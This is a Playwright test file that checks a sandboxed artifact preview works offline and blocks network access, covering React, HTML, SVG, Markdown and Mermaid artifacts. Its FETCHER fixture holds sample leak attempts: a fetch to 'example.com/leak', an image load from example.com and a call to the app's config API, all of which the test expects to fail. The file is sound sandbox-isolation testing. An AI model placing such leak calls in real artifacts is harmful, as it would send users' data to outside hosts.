import { mkdtempSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Page } from '@playwright/test';
import { build } from 'esbuild';
import { expect, test } from './fixtures.ts';
import { APP_URL } from './servers.ts';

/**
 * Issue 17 point 5: the artifact preview works offline. The real ArtifactPreview component is
 * bundled into a small test page served at the app's origin (with the app's own CSP); the frame
 * loads its runtime from the running app's /vendor/ files. Every request to any other origin is
 * aborted and recorded.
 */

const root = path.resolve(import.meta.dirname, '..');
const HARNESS = `${APP_URL}/__artifact-harness/`;

function vendorDeps(hash: string): string {
  return readFileSync(path.join(root, 'packages/web/dist/vendor', hash, 'deps.json'), 'utf8');
}

function vendorHash(): string {
  const dir = path.join(root, 'packages/web/dist/vendor');
  const dirs = readdirSync(dir).sort(
    (a, b) => statSync(path.join(dir, b)).mtimeMs - statSync(path.join(dir, a)).mtimeMs,
  );
  return dirs[0];
}

let bundleDir = '';
test.beforeAll(async () => {
  bundleDir = mkdtempSync(path.join(tmpdir(), 'artifact-harness-'));
  await build({
    entryPoints: [path.join(root, 'e2e/artifact-harness/main.tsx')],
    outdir: bundleDir,
    bundle: true,
    splitting: true,
    format: 'esm',
    jsx: 'automatic',
    minify: true,
    define: {
      'import.meta.env': JSON.stringify({
        VITE_ARTIFACT_VENDOR: vendorHash(),
        VITE_ARTIFACT_VENDOR_DEPS: vendorDeps(vendorHash()),
      }),
      'process.env.NODE_ENV': '"production"',
    },
    logLevel: 'warning',
  });
});

const APP = `
import { useState } from 'react';
import { Heart } from 'lucide-react';
import { LineChart, Line, XAxis, YAxis } from 'recharts';
import { Button } from '/components/ui/button';
import { Card, CardContent } from '@/components/ui/card';

const data = [{ x: 'a', y: 1 }, { x: 'b', y: 3 }, { x: 'c', y: 2 }];

export default function App(): JSX.Element {
  const [count, setCount] = useState<number>(0);
  return (
    <Card className="m-4">
      <CardContent className="p-4">
        <h1 className="text-blue-600 text-2xl font-bold" data-testid="title">Counter</h1>
        <Heart data-testid="icon" className="text-red-500" />
        <LineChart width={300} height={150} data={data}><XAxis dataKey="x" /><YAxis /><Line dataKey="y" /></LineChart>
        <Button onClick={() => setCount((c) => c + 1)}>Clicked {count}</Button>
      </CardContent>
    </Card>
  );
}`;

const FETCHER = `
import { useEffect, useState } from 'react';
export default function App() {
  const [out, setOut] = useState('pending');
  useEffect(() => {
    Promise.allSettled([
      fetch('${APP_URL}/api/config').then((r) => r.status),
      fetch('https://example.com/leak?x=1').then((r) => r.status),
      new Promise((res, rej) => { const i = new Image(); i.onload = res; i.onerror = rej; i.src = 'https://example.com/p.png'; }),
    ]).then((rs) => setOut(rs.map((r) => r.status).join(',')));
  }, []);
  return <p data-testid="out">{out}</p>;
}`;

/** Block every request not to the app; serve the test page (under the app's CSP) and its bundle. */
async function openHarness(page: Page): Promise<string[]> {
  const appOrigin = new URL(APP_URL).origin;
  const outside: string[] = [];
  const appCsp = (await page.request.get(`${APP_URL}/login`)).headers()['content-security-policy'];
  expect(appCsp).toContain("script-src 'self'");
  await page.route('**', (route) => {
    const url = route.request().url();
    if (new URL(url).origin === appOrigin || url.startsWith('data:') || url.startsWith('blob:'))
      return route.fallback();
    outside.push(url);
    return route.abort();
  });
  // The test page and its bundle, at the app's origin under the app's CSP.
  await page.route(`${HARNESS}**`, (route) => {
    const file = new URL(route.request().url()).pathname.replace('/__artifact-harness/', '');
    if (file === '') {
      return route.fulfill({
        contentType: 'text/html',
        headers: { 'Content-Security-Policy': appCsp },
        body: `<!doctype html><div id="root"></div><script type="module" src="${HARNESS}main.js"></script>`,
      });
    }
    return route.fulfill({ contentType: 'text/javascript', body: readFileSync(path.join(bundleDir, file)) });
  });
  await page.goto(HARNESS);
  await page.waitForFunction(() => typeof window.showArtifact === 'function');
  return outside;
}

test('a React artifact previews with every outside request blocked; fetch() from it fails', async ({
  page,
}) => {
  const outside = await openHarness(page);
  const frameRequests: string[] = [];
  page.on('request', (req) => {
    if (req.frame() !== page.mainFrame()) frameRequests.push(req.url());
  });

  const first = await page.evaluate(
    (content) => window.showArtifact({ type: 'application/vnd.react', content, reloadKey: 0 }),
    APP,
  );
  const frame = page.frameLocator('[data-testid="artifact-preview-frame"]');
  await expect(frame.getByRole('button', { name: 'Clicked 0' })).toBeVisible();
  // Tailwind applied (blue-600), lucide icon and recharts chart drawn.
  await expect(frame.getByTestId('title')).toHaveCSS(
    'color',
    /oklch\(0\.546 0\.245 262\.881\)|rgb\(37, 99, 235\)/,
  );
  await expect(frame.getByTestId('icon')).toHaveClass(/lucide/);
  await expect(frame.locator('.recharts-line path').first()).toBeVisible();
  await frame.getByRole('button', { name: 'Clicked 0' }).click();
  await frame.getByRole('button', { name: 'Clicked 1' }).click();
  await expect(frame.getByRole('button', { name: 'Clicked 2' })).toBeVisible();

  // The frame is sandboxed with an opaque origin.
  await expect(page.getByTestId('artifact-preview-frame')).toHaveAttribute('sandbox', 'allow-scripts');
  const frameOrigin = await page
    .frames()
    .find((f) => f !== page.mainFrame())
    ?.evaluate(() => window.origin);
  expect(frameOrigin).toBe('null');

  // A changed artifact (an edit) re-renders; it is warm now.
  const later: number[] = [];
  for (let i = 1; i <= 3; i++) {
    const content = APP.replace('Counter', `Counter v${i}`);
    later.push(
      await page.evaluate(
        (c) => window.showArtifact({ type: 'application/vnd.react', content: c, reloadKey: 0 }),
        content,
      ),
    );
    await expect(frame.getByTestId('title')).toHaveText(`Counter v${i}`);
  }
  // reloadKey alone makes a fresh frame (state reset).
  await frame.getByRole('button', { name: 'Clicked 0' }).click();
  await expect(frame.getByRole('button', { name: 'Clicked 1' })).toBeVisible();
  await page.evaluate(
    (c) => window.showArtifact({ type: 'application/vnd.react', content: c, reloadKey: 1 }),
    APP.replace('Counter', 'Counter v3'),
  );
  await expect(frame.getByRole('button', { name: 'Clicked 0' })).toBeVisible();

  // Network from the artifact: fetch to the app, fetch and an image to the internet all fail.
  await page.evaluate(
    (c) => window.showArtifact({ type: 'application/vnd.react', content: c, reloadKey: 2 }),
    FETCHER,
  );
  await expect(frame.getByTestId('out')).toHaveText('rejected,rejected,rejected');
  expect(frameRequests.filter((u) => u.includes('/api/config'))).toEqual([]);

  // A syntax error is shown, not a blank frame.
  await page.evaluate(() => {
    // Never painted: not awaited.
    void window.showArtifact({
      type: 'application/vnd.react',
      content: 'export default () => <div>',
      reloadKey: 3,
    });
  });
  await expect(page.getByRole('alert')).toContainText('could not run');

  console.log(
    `artifact preview paint: first ${first.toFixed(0)} ms, later ${later.map((n) => n.toFixed(0)).join(' / ')} ms`,
  );
  expect(outside).toEqual([]);
  // Targets (issue 17 point 6): first ≤ 2 s, later ≤ 300 ms. Routing disables Chromium's HTTP cache
  // and a shared 2-core machine runs other suites, so by default only gross regressions fail; set
  // ARTIFACT_PERF_STRICT=1 on a quiet machine to hold the targets themselves.
  const strict = process.env.ARTIFACT_PERF_STRICT === '1';
  expect(first).toBeLessThan(strict ? 2000 : 10_000);
  for (const n of later) expect(n).toBeLessThan(strict ? 300 : 1500);
});

test('HTML (with its own inline script), SVG, Markdown and Mermaid artifacts preview offline', async ({
  page,
}) => {
  const outside = await openHarness(page);
  const frame = page.frameLocator('[data-testid="artifact-preview-frame"]');
  const show = (type: string, content: string) =>
    page.evaluate((p) => window.showArtifact({ ...p, reloadKey: 0 }), { type, content });

  // The frame's CSP allows the artifact's inline scripts (the app's own CSP would not).
  await show(
    'text/html',
    '<html><head><title>x</title></head><body><p id="out">static</p><img id="ph" src="/api/placeholder/40/30">' +
      '<script>document.getElementById("out").textContent = "script ran";</script></body></html>',
  );
  await expect(frame.locator('#out')).toHaveText('script ran');
  await expect
    .poll(() => frame.locator('#ph').evaluate((img: HTMLImageElement) => img.naturalWidth))
    .toBe(40);

  await show(
    'image/svg+xml',
    '<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50"><circle id="c" r="20" cx="25" cy="25"/></svg>',
  );
  await expect(frame.locator('circle#c')).toBeAttached();

  await show('text/markdown', '# Heading\n\n<b id="raw">raw</b>\n\n| a | b |\n|---|---|\n| 1 | 2 |');
  await expect(frame.getByRole('heading', { name: 'Heading' })).toBeVisible();
  await expect(frame.locator('table td').first()).toHaveText('1');
  await expect(frame.locator('#raw')).toHaveCount(0);

  await show('application/vnd.mermaid', 'graph TD\n  A[Start] --> B[Ship it]');
  await expect(frame.locator('svg').getByText('Ship it')).toBeVisible();
  expect(outside).toEqual([]);
});
